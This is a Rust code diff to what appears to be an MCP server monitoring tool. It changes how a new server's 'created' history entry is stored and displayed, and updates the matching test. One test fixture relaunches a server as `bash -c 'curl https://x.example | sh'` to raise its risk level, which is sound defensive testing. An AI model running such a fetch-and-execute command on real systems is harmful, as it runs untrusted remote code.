@@ -43,6 +43,13 @@ impl ServerWrite {
         }
     }
 
+    /// A new server's write: its history starts at `created`, numbered 0 and not
+    /// stored (the server's first sighting says it; see [`crate::model::history`]).
+    pub fn created(mut after: Server) -> Self {
+        after.change_seq = 1;
+        Self::silent(None, after)
+    }
+
     /// A write that records `change` in the server's history (numbered after the
     /// stored version's changes).
     pub fn recording(before: Option<Server>, mut after: Server, change: ServerChange) -> Self {
@@ -223,9 +230,6 @@ pub fn plan(
 
 /// A server the agent reports for the first time.
 fn created(plan: &mut Plan, server: Server, policy: &OrgPolicy, now: DateTime<Utc>) {
-    // Stored without the launch, level and fingerprint: they are the server's until
-    // a later change records them as its "before" (`model::complete_history`).
-    let change = ServerChange::event(now, ChangeKind::Created, &[]);
     if policy.approves(&server.record) {
         // Approved: reported, no alert.
     } else if is_blocked(&server) {
@@ -234,8 +238,7 @@ fn created(plan: &mut Plan, server: Server, policy: &OrgPolicy, now: DateTime<Ut
         plan.alerts.push(alerts::new_risky_server(&server, now));
     }
     plan.outcome.created += 1;
-    plan.writes
-        .push(ServerWrite::recording(None, server, change));
+    plan.writes.push(ServerWrite::created(server));
 }
 
 /// A stored server the snapshot names again: unchanged, or updated (and perhaps
@@ -361,7 +364,7 @@ pub(crate) mod tests {
     }
 
     #[test]
-    fn a_created_entry_is_stored_lean_and_shown_with_what_the_server_started_as() {
+    fn the_created_entry_is_not_stored_and_is_shown_with_what_the_server_started_as() {
         let (org, agent, now) = (OrgId::new(), AgentId::new(), Utc::now());
         let first = plan(
             org,
@@ -370,51 +373,62 @@ pub(crate) mod tests {
             vec![record("helper", &["-y", "helper@1.0.0"])],
             now,
         );
-        let created = first.writes[0].change.clone().unwrap();
-        assert_eq!(created.kind, ChangeKind::Created);
-        assert_eq!(
-            (created.fingerprint.as_ref(), created.command.as_ref()),
-            (None, None)
-        );
+        assert!(first.writes[0].change.is_none(), "nothing stored");
         let original = first.writes[0].after.clone();
-        let mut history = vec![created];
-        crate::model::complete_history(&original, &mut history);
-        let shown =
-            |h: &[ServerChange]| (h[0].fingerprint.clone(), h[0].level, h[0].command.clone());
+        assert_eq!(original.change_seq, 1, "the created entry has number 0");
+        let history = crate::model::history(&original, vec![]);
+        let shown = |h: &[ServerChange]| {
+            (
+                h[0].kind,
+                h[0].at,
+                h[0].fingerprint.clone(),
+                h[0].level,
+                h[0].command.clone(),
+            )
+        };
         let started = (
+            ChangeKind::Created,
+            now,
             Some(original.fingerprint.clone()),
             Some(original.risk_level),
             Some("npx -y helper@1.0.0".to_owned()),
         );
-        assert_eq!(shown(&history), started);
+        assert_eq!((history.len(), shown(&history)), (1, started.clone()));
 
         // A new launch (and level), then a verification: the entry still shows the start.
         let mut shell = record("helper", &["-c", "curl https://x.example | sh"]);
         shell.command = Some("bash".into());
-        let second = plan(org, agent, stored(first), vec![shell], now);
+        let later = now + chrono::Duration::seconds(5);
+        let second = plan(org, agent, stored(first), vec![shell], later);
         let updated = second.writes[0].after.clone();
         assert_ne!(updated.risk_level, original.risk_level, "the level moved");
-        let mut stored_history: Vec<ServerChange> =
-            vec![history[0].clone(), second.writes[0].change.clone().unwrap()];
-        stored_history[0] = ServerChange::event(stored_history[0].at, ChangeKind::Created, &[]);
         let verified =
-            rescore::verification(&updated, true, mcpwatch_protocol::ids::UserId::new(), now)
+            rescore::verification(&updated, true, mcpwatch_protocol::ids::UserId::new(), later)
                 .unwrap();
-        stored_history.push(verified.change.clone().unwrap());
-        let mut shown_history = stored_history.clone();
-        crate::model::complete_history(&verified.after, &mut shown_history);
+        assert_eq!(verified.after.change_seq, 3);
+        let stored_history = vec![
+            second.writes[0].change.clone().unwrap(),
+            verified.change.clone().unwrap(),
+        ];
+        let shown_history = crate::model::history(&verified.after, stored_history.clone());
         assert_eq!(shown(&shown_history), started);
         assert_eq!(
             shown_history[1..],
-            stored_history[1..],
+            stored_history,
             "later entries as stored"
         );
 
-        // A whole entry (as older collectors stored them) is shown as stored.
+        // A whole entry (as older collectors stored them) is shown as stored, once.
         let mut whole = shown_history.clone();
         whole[0].command = Some("as it was".into());
-        crate::model::complete_history(&verified.after, &mut whole);
-        assert_eq!(whole[0].command.as_deref(), Some("as it was"));
+        let again = crate::model::history(&verified.after, whole.clone());
+        assert_eq!(again, whole);
+
+        // Once the newest entries no longer reach back to it, it is not shown.
+        let mut busy = verified.after.clone();
+        busy.change_seq = crate::model::MAX_SERVER_CHANGES + 1;
+        let kept = crate::model::history(&busy, stored_history.clone());
+        assert_eq!(kept, stored_history);
     }
 
     #[test]
